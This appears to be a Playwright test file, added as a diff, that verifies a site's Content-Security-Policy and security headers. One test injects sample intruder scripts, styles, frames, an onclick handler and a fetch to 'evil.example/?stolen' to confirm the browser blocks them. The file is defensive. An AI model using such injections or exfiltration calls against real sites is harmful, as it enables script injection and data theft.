@@ -1,0 +1,146 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import { audiences, homeAudience } from '@/content/audiences';
+import { emailPolicy } from '@/scripts/policy.mjs';
+import { expect, pages, postRoutes, test } from './fixtures';
+import { identityService, signInExport } from './sign-in';
+
+const [post = '', framedPost = ''] = postRoutes;
+const email = `/emails/${homeAudience.id}`;
+
+/** In each export, the hosts that its pages may reach beside their own. */
+const exports = {
+  [signInExport]: ['https://apis.google.com', 'https://*.googleusercontent.com', identityService],
+  '.local/no-sign-in/out': [],
+};
+
+for (const [folder, hosts] of Object.entries(exports)) {
+  test(`every HTML file in ${folder} carries one policy, before anything that it rules`, () => {
+    const names = readdirSync(folder, { recursive: true, encoding: 'utf8' });
+    const files = names.filter((name) => name.endsWith('.html'));
+    expect(files.length).toBeGreaterThan(pages.length + audiences.length);
+    for (const file of files) {
+      const html = readFileSync(path.join(folder, file), 'utf8');
+      const [before = '', ...after] = html.split(
+        /<meta http-equiv="Content-Security-Policy" content="/,
+      );
+      expect([file, after.length]).toEqual([file, 1]);
+      const policy = after[0]?.split('"')[0] ?? '';
+      expect(before).not.toMatch(/<(link|script|style|img)/);
+      // The character set has to be said within the first 1024 bytes.
+      expect(Buffer.byteLength(before)).toBeLessThan(1024);
+      if (file.startsWith('emails')) {
+        expect(policy).toBe(emailPolicy);
+        continue;
+      }
+      expect(policy).not.toMatch(
+        /unsafe-(eval|hashes)|(script|style|default)-src(-elem)? [^;]*unsafe-inline/,
+      );
+      const reached = policy.match(/(?:https?|wss?):[^\s;]*/g) ?? [];
+      expect([file, new Set(reached)]).toEqual([file, new Set(hosts)]);
+    }
+  });
+}
+
+test('every file is answered with the headers of its kind', async ({ request, page }) => {
+  await page.goto('/');
+  const chunk = await page.locator('script[src]').first().getAttribute('src');
+  const none = "frame-ancestors 'none'";
+  const self = "frame-ancestors 'self'";
+  const kinds: [url: string, frames: string, caching: unknown][] = [
+    ...pages.map(({ route }): [string, string, string] => [route, none, 'no-cache']),
+    ['/no-such-page', none, 'no-cache'],
+    [post, none, 'no-cache'],
+    [framedPost, self, 'no-cache'],
+    [email, self, 'no-cache'],
+    [`${email}.txt`, self, 'no-cache'],
+    ['/no/such/page', self, expect.anything()],
+    [chunk ?? '', self, 'public, max-age=31536000, immutable'],
+  ];
+  for (const [url, frames, caching] of kinds) {
+    const headers = (await request.get(url)).headers();
+    expect({ url, ...headers }).toMatchObject({
+      url,
+      'content-security-policy': frames,
+      'cache-control': caching,
+      'strict-transport-security': expect.stringMatching(/^max-age=/),
+      'cross-origin-opener-policy': 'same-origin-allow-popups',
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'permissions-policy': expect.stringContaining('camera=()'),
+    });
+  }
+});
+
+test.describe('what has been put into a page', () => {
+  test.use({ expectedProblems: [/Content Security Policy/] });
+
+  test('does nothing: script, handler, text run as script, style, frame, call', async ({
+    page,
+  }) => {
+    await page.goto('/');
+    const violations: string[] = [];
+    await page.exposeFunction('report', (violation: string) => violations.push(violation));
+    await page.evaluate(() => {
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+        // oxlint-disable-next-line typescript/no-unsafe-type-assertion
+        (window as unknown as { report(text: string): void }).report(
+          `${effectiveDirective} ${blockedURI}`,
+        ),
+      );
+      const intruders = [
+        ['script', { textContent: 'document.title = "inline"' }],
+        ['script', { src: 'https://evil.example/a.js' }],
+        ['style', { textContent: 'body { outline: 9px solid }' }],
+        ['link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }],
+        ['iframe', { src: 'https://evil.example/' }],
+        ['img', { src: 'https://evil.example/a.png' }],
+        ['div', { innerHTML: '<button onclick="document.title = \'handler\'"></button>' }],
+      ] as const;
+      for (const [name, values] of intruders)
+        document.body.append(Object.assign(document.createElement(name), values));
+      document.querySelector<HTMLButtonElement>('body > div > button')?.click();
+      // oxlint-disable-next-line typescript/no-implied-eval -- what an intruder would do
+      setTimeout('document.title = "text"');
+      fetch('https://evil.example/?stolen').catch(() => {});
+    });
+    await expect
+      .poll(() => violations.toSorted())
+      .toEqual([
+        'connect-src https://evil.example/?stolen',
+        'frame-src https://evil.example',
+        'img-src https://evil.example/a.png',
+        'script-src eval',
+        'script-src-attr inline',
+        'script-src-elem https://evil.example/a.js',
+        'script-src-elem inline',
+        'style-src-elem https://evil.example/a.css',
+        'style-src-elem inline',
+      ]);
+    await expect(page).toHaveTitle(new RegExp(homeAudience.landing.title));
+    await expect(page.locator('body')).not.toHaveCSS('outline-width', '9px');
+  });
+
+  test('runs no script in an email', async ({ page }) => {
+    await page.goto(email);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'document.title = "inline"';
+      document.body.append(script);
+    });
+    await expect(page).toHaveTitle(homeAudience.email.subject);
+  });
+});
+
+test.describe('a page in a frame', () => {
+  test.use({ expectedProblems: [/frame-ancestors 'none'|ERR_BLOCKED_BY_RESPONSE/] });
+
+  test('is not shown, not even in one of this site', async ({ page }) => {
+    await page.goto('/');
+    const refused = page.waitForEvent('requestfailed');
+    await page.evaluate((src) => {
+      document.body.append(Object.assign(document.createElement('iframe'), { src }));
+    }, pages[1]?.route);
+    await refused;
+  });
+});
